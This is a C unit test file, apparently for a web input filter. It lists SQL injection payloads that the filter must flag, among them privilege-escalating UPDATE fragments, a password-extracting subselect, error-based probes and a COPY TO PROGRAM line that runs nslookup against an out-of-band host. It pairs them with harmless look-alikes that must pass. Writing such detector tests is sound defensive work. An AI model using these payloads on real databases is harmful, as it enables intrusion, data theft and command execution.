/* test_payload_rts4.c - helper s's red-team rows, session 18: SQL
 * injection left open by the rev6 review (E7: a sign, a blank or
 * parentheses in an arithmetic probe; E9: a SET list or an INSERT row
 * continued to the query's own quote, with no comment), IF() on a
 * constant as the whole value, a boolean on a division by zero after a
 * number, ZAP's sort direction cut by a comment, a call carrying a query
 * as the whole value (Havij's convert), COPY ... TO PROGRAM (Burp)
 * (payload_sqli_dml.c, payload_sqli_tail.c); and the look-alikes beside
 * them. Each value is judged as a query value and as a form body
 * (payload_rt_table.h); each attack also at the kill line (60) as a query
 * value. */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include "tests/unit/payload_rt_table.h"

#define Q PAYLOAD_SQLI
#define N PAYLOAD_NONE

static const struct rtcase attacks[] = {
	/* rev6 E7: a sign or a blank before the number, a signed term, a
	 * term in parentheses */
	{ "+2-1-- -", Q },
	{ " 2-1-- -", Q },
	{ "2- -1-- -", Q },
	{ "2-(1)-- -", Q },
	{ "-3*(2)-- -", Q },
	{ "1-(-1)-- -", Q },
	/* rev6 E9: the SET list and the row left open for the query's quote */
	{ "x', is_admin='1", Q },
	{ "x', is_admin=1, name='x", Q },
	{ "bob', balance=1000000, name='bob", Q },
	{ "x', role='admin' WHERE name='bob", Q },
	{ "x'),('a','b", Q },
	{ "'),('x','y", Q },
	{ "a', (SELECT password FROM users LIMIT 1), 'b", Q },
	/* IF on a constant as the whole value (an ORDER BY switch) */
	{ "IF(1=1,name,price)", Q },
	{ "IF(1=2,name,price)", Q },
	{ "IIF(2>1,id,name)", Q },
	{ "IF(1 LIKE 2,name,price)", Q },
	/* a number's boolean on a division by zero */
	{ "1 AND 1/0", Q },
	{ "1 OR 1/0-- -", Q },
	{ "7 and 1/0", Q },
	/* ZAP's ORDER BY probe */
	{ "name ASC -- ", Q },
	{ "name DESC -- ", Q },
	{ "price DESC, name ASC -- ", Q },
	{ "1 DESC#", Q },
	{ "name\rASC\t--\xa0", Q },
	/* a call carrying a query as the whole value; COPY TO PROGRAM */
	{ "convert(int,(char(33)+char(126)+(select top 1 name from master..sysdatabases)+char(33)))", Q },
	{ "copy (select '') to program 'nslookup x.oastify.com'", Q },
};

static void test_rts4_attacks(void **state)
{
	(void)state;
	rt_run("rts4", attacks, sizeof(attacks) / sizeof(attacks[0]));
	rt_kill_run("rts4", PAYLOAD_SQLI, attacks, sizeof(attacks) / sizeof(attacks[0]));
}

static void test_rts4_lookalikes(void **state)
{
	static const struct rtcase t[] = {
		/* numbers with a sign or a blank, terms in parentheses, no
		 * mark or a note after it */
		{ " 2-1", N },
		{ "+2-1", N },
		{ "+1-555-1234", N },
		{ "2-(1)", N },
		{ "2-(1) -- note", N },
		{ " 3-2 -- final", N },
		{ "+3 -- great", N },
		{ "5 - (2)", N },
		{ "1-(-1)", N },
		{ "1-(-1) -- so 2", N },
		{ " 10-2 --", N },
		/* apostrophes and lists, kwargs, rows in code */
		{ "Rock 'n', style='classic", N },
		{ "it's, like='this", N },
		{ "I said 'hi', you='bye", N },
		{ "Mike's pizza, name='Mike's", N },
		{ "apples', 'pears", N },
		{ "'), ('", N },
		{ "print('a', end='')", N },
		{ "UPDATE users SET name='x', is_admin='1' WHERE id=2", N },
		{ "INSERT INTO t VALUES ('a','b'),('c','d')", N },
		/* spreadsheet formulas */
		{ "IF(A1=1,\"yes\",\"no\")", N },
		{ "IF(1=1,\"a\",\"b\")", N },
		{ "IF(x=1,a,b)", N },
		{ "IF(1=1) is always true", N },
		{ "IF(score>=50,pass,fail)", N },
		/* fractions, division in prose */
		{ "1 and 1/2 cups", N },
		{ "1 or 1/10", N },
		{ "1/0 is undefined", N },
		{ "1 and 1/0 both undefined", N },
		{ "AND 1/0", N },
		/* sort keys and notes */
		{ "name ASC", N },
		{ "price DESC, name ASC", N },
		{ "created_at DESC -- newest first", N },
		{ "name ASC -- default", N },
		{ "sort: name ASC --", N },
		{ "ORDER BY name ASC -- sort", N },
		/* calls and COPY in prose */
		{ "copy (paste) to program files", N },
		{ "copy (the file) to program folder", N },
		{ "convert(int, '5')", N },
		{ "count(select)", N },
	};

	(void)state;
	rt_run("rts4", t, sizeof(t) / sizeof(t[0]));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_rts4_attacks),
		cmocka_unit_test(test_rts4_lookalikes),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
